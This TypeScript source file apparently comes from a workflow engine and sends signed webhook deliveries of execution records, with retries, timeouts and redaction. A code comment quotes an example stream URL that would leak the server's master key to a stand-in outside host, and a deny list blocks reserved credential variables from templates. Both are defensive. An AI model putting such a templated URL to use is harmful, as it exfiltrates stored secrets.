/**
 * Streaming execution data: one signed POST per ended execution to the workflow's
 * `stream.url`, in the Standard Webhooks payload shape `{ type, timestamp, data }`, signed
 * with `stream.secret` (headers webhook-id, webhook-timestamp, webhook-signature). The
 * message id is stable across retries so receivers can de-duplicate; the timestamp and
 * signature are fresh per attempt. Retried like a step (default 5 attempts).
 *
 * `deps.signal` (shutdown) aborts a POST in flight and the wait between attempts: the
 * delivery then rejects with ExecutionInterruptedError and `record.stream` stays unset, so
 * the resumed run delivers it (same message id, so receivers de-duplicate).
 */
import { appVariables } from '../core/connection-env.js';
import type { ConnectorRegistry } from '../connectors/types.js';
import { AlloyError, StepError } from '../errors.js';
import type { CompiledStream } from './compile.js';
import { ExecutionInterruptedError, toErrorInfo } from './errors.js';
import { renderAt } from './evaluate.js';
import type { Redactor } from './redact.js';
import { isRetryable, parseRetryAfter, retryDelay } from './retry.js';
import { setLongTimeout } from './clock.js';
import { standardWebhookHeaders } from './standard-webhooks.js';
import type { EngineDeps, ExecutionRecord, StreamDelivery } from './types.js';

export const STREAM_EVENT_TYPE = 'execution.completed';

/**
 * What stream expressions may not read from the server's environment, as `env` or `secrets`:
 * alloy's own settings and credentials (every `ALLOY_*`: the master key, tokens, the database
 * URL), libpq's variables (`PG*`) and `DATABASE_URL`, and every connector's app variables
 * (its connection fields' and its OAuth client's, `SHOPIFY_API_SECRET`, `SHOPIFY_CLIENT_SECRET`:
 * with them webhooks and OAuth callbacks can be forged for every shop). A released
 * `stream.url` of `https://x.example/?k={{ env.ALLOY_MASTER_KEY }}` sent the key to every
 * stored secret out, and kept it in the record, for anyone who could release.
 */
export function isReservedVariable(name: string, appVariableNames: ReadonlySet<string>): boolean {
  return name.startsWith('ALLOY_') || /^PG[A-Z]+$/.test(name) || name === 'DATABASE_URL' || appVariableNames.has(name);
}

/** Every app variable of every connector the engine has: connection fields and OAuth client (made once per registry). */
const appVariablesOf = new WeakMap<ConnectorRegistry, ReadonlySet<string>>();
function appVariablesIn(connectors: ConnectorRegistry): ReadonlySet<string> {
  let names = appVariablesOf.get(connectors);
  if (!names) {
    const all = new Set<string>();
    for (const app of connectors.names()) {
      const manifest = connectors.get(app)?.manifest;
      if (manifest) for (const name of appVariables(manifest)) all.add(name);
    }
    appVariablesOf.set(connectors, (names = all));
  }
  return names;
}

/** What stream expressions see of `vars`: all but the reserved names, made once per (variables, registry). */
const visible = new WeakMap<object, WeakMap<object, Record<string, unknown>>>();
function streamVariables<T>(vars: Record<string, T>, connectors: ConnectorRegistry): Record<string, T> {
  let byRegistry = visible.get(vars);
  if (!byRegistry) visible.set(vars, (byRegistry = new WeakMap()));
  let out = byRegistry.get(connectors) as Record<string, T> | undefined;
  if (!out) {
    const reserved = appVariablesIn(connectors);
    out = {};
    for (const [k, v] of Object.entries(vars)) if (!isReservedVariable(k, reserved)) out[k] = v;
    byRegistry.set(connectors, out);
  }
  return out;
}
const DEFAULT_STREAM_TIMEOUT_MS = 10_000;

/** The JSON body streamed for an execution (secret values already redacted in the record). */
export function streamPayload(record: ExecutionRecord, timestamp: string, redactor: Redactor): Record<string, unknown> {
  const steps: Record<string, unknown> = {};
  for (const [path, s] of Object.entries(record.steps)) {
    steps[path] = {
      status: s.status,
      attempts: s.attempts,
      ...(s.output !== undefined ? { output: s.output } : {}),
      ...(s.error ? { error: s.error } : {}),
      startedAt: s.startedAt,
      endedAt: s.endedAt,
      durationMs: s.durationMs,
    };
  }
  return {
    type: STREAM_EVENT_TYPE,
    timestamp,
    data: redactor.value(
      {
        id: record.id,
        workflow: record.workflow,
        version: record.version,
        userId: record.userId,
        status: record.status,
        reason: record.reason,
        error: record.error,
        event: record.event,
        steps,
        startedAt: record.startedAt,
        endedAt: record.endedAt,
        durationMs: record.durationMs,
      },
    ),
  };
}

export async function deliverStream(
  stream: CompiledStream,
  record: ExecutionRecord,
  deps: EngineDeps,
  redactor: Redactor,
  /** Told before each sleep between attempts (and with undefined after it), so the host can show the wait. */
  onRetryWait?: (wait: { attempts: number; at: string } | undefined) => Promise<void>,
): Promise<StreamDelivery> {
  const shutdown = deps.signal;
  if (shutdown?.aborted) throw new ExecutionInterruptedError();
  const messageId = `msg_${record.id}`;
  const ctx = {
    event: record.event,
    user: { id: record.userId },
    execution: { id: record.id, workflow: record.workflow, startedAt: record.startedAt },
    env: streamVariables(deps.env ?? {}, deps.connectors),
    secrets: streamVariables(deps.secrets ?? {}, deps.connectors),
  };
  let url = '';
  let attempts = 0;
  try {
    url = String((await renderAt(stream.url, ctx, { step: 'stream', field: '/stream/url', options: { limits: deps.limits } })) ?? '');
    const secret = await renderAt(stream.secret, ctx, { step: 'stream', field: '/stream/secret', options: { limits: deps.limits } });
    if (!/^https?:\/\//.test(url)) {
      throw new AlloyError('E_STREAM_URL', `stream url resolved to ${JSON.stringify(url)}, not an http(s) URL`, {
        hint: 'Set the variable the workflow `stream.url` reads (e.g. ACME_STREAM_URL in .env).',
      });
    }
    if (typeof secret !== 'string' || secret === '') {
      throw new AlloyError('E_STREAM_SECRET', 'stream secret resolved to nothing', {
        hint: 'Set the secret the workflow `stream.secret` reads (a whsec_<base64> value, e.g. in .env).',
      });
    }
    redactor.add([secret]);
    const body = JSON.stringify(streamPayload(record, new Date(deps.clock.now()).toISOString(), redactor));
    for (;;) {
      attempts += 1;
      try {
        const timestamp = Math.floor(deps.clock.now() / 1000);
        const controller = new AbortController();
        const cancelTimer = setLongTimeout(() => controller.abort(), stream.timeoutMs ?? DEFAULT_STREAM_TIMEOUT_MS);
        const signal = shutdown ? AbortSignal.any([controller.signal, shutdown]) : controller.signal;
        let res;
        try {
          res = await deps.http({
            method: 'POST',
            url,
            headers: { 'content-type': 'application/json', ...standardWebhookHeaders(secret, messageId, timestamp, body) },
            body,
            signal,
          });
        } catch (err) {
          if (shutdown?.aborted) throw new ExecutionInterruptedError();
          if (!controller.signal.aborted) throw err;
          throw new StepError(`stream receiver did not answer within ${stream.timeoutMs ?? DEFAULT_STREAM_TIMEOUT_MS} ms`, {
            code: 'E_STREAM_TIMEOUT',
            retryable: true,
          });
        } finally {
          cancelTimer();
        }
        if (res.status >= 200 && res.status < 300) {
          return { status: 'delivered', url: redactor.text(url), messageId, attempts, statusCode: res.status, at: new Date(deps.clock.now()).toISOString() };
        }
        const retryAfter = res.headers['retry-after'];
        // The receiver's own words (first 200 characters) say why; secrets in them are redacted.
        const said = redactor.text(String(res.text ?? '').replace(/\s+/g, ' ').trim());
        throw new StepError(`stream receiver answered HTTP ${res.status}${said ? `: ${said.length > 200 ? `${said.slice(0, 200)}…` : said}` : ''}`, {
          code: 'E_STREAM_HTTP',
          status: res.status,
          retryable: res.status === 408 || res.status === 429 || res.status >= 500,
          retryAfterMs: parseRetryAfter(retryAfter, deps.clock.now()),
        });
      } catch (err) {
        if (err instanceof ExecutionInterruptedError) throw err;
        if (!isRetryable(err) || attempts >= stream.retry.attempts) throw err;
        const wait = retryDelay(err, stream.retry, attempts, deps.random);
        await onRetryWait?.({ attempts, at: new Date(deps.clock.now() + wait).toISOString() });
        try {
          await deps.clock.sleep(wait, shutdown);
        } catch (sleepErr) {
          if (shutdown?.aborted) throw new ExecutionInterruptedError();
          throw sleepErr;
        } finally {
          await onRetryWait?.(undefined);
        }
      }
    }
  } catch (err) {
    // Shutdown is not a failed delivery: leave it unrecorded for the resumed run.
    if (err instanceof ExecutionInterruptedError) throw err;
    const error = toErrorInfo(err, 'stream', redactor);
    deps.logger.warn('stream delivery failed', { execution: record.id, code: error.code });
    const out: StreamDelivery = { status: 'failed', url: redactor.text(url), messageId, attempts, error, at: new Date(deps.clock.now()).toISOString() };
    const status = (err as { status?: number }).status;
    if (typeof status === 'number') out.statusCode = status;
    return out;
  }
}
